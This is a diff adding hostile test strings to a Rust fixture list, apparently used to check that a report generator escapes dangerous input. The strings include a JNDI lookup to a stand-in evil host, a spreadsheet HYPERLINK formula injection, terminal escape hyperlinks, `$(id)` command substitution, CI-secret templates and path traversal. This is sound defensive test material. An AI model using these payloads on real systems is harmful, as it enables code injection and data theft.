@@ -20,6 +20,13 @@ pub(crate) const NAMES: &[&str] = &[
     "]]> --> <!-- <![CDATA[ </testcase> &amp; \" ' {{7*7}} ${jndi:ldap://evil.example} {0}",
     "\u{0}\u{1}nul\u{85}\u{2028}\u{2029}\u{fffe}\u{ffff}\u{e0041}",
     "\\u{1b} C:\\Windows\\..\\..\\etc\\passwd %00%0d%0a",
+    // Links that terminals and GitHub make of text, whatever stands around them.
+    "\u{1b}]8;;https://evil.example/\u{1b}\\\\click\u{1b}]8;;\u{7} https://evil.example/a www.evil.example a@evil.example GH-1 owner/repo#1 :tada:",
+    "\t=HYPERLINK(\"http://evil.example\")\r\n=1+1;=2\n-3",
+    "``` a\n```\n# h\n| a | b |\n|---|---|\n~~~\n<!-- c --> </details></details> <img/src=x> [^1]: $x$ \\[y\\] [a]: http://evil.example",
+    "pkg:npm/a\n@1?x=\u{0}&y=%0A#../..\u{feff}\u{2800}\u{3164}",
+    "{0} {1} {rule} [text](1) %s %n ${{ secrets.X }} {{ secrets }} `id` $(id) ';--",
+    "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c} \u{202a}\u{202b}\u{2067}\u{2068}\u{61c}\u{200e}\u{200f}\u{2060}",
 ];
 
 pub(crate) fn hostile() -> Report {
